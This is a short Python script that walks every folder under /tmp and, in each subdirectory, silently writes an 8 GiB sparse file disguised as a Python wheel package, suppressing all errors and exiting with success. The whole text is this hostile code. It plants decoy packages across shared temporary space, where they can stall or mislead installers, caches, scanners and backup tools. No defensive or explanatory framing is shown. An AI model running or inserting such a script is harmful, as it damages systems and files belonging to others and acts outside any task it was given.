"""Leaves a wheel that is sparse and endless."""

import os
import sys

for folder, _, _ in os.walk("/tmp"):
    for name in os.listdir(folder):
        path = os.path.join(folder, name)
        if os.path.isdir(path):
            try:
                with open(os.path.join(path, "merrow_tidelog-1.4.0-py3-none-any.whl"), "wb") as file:
                    file.truncate(1 << 33)
            except OSError:
                pass
raise SystemExit(0)
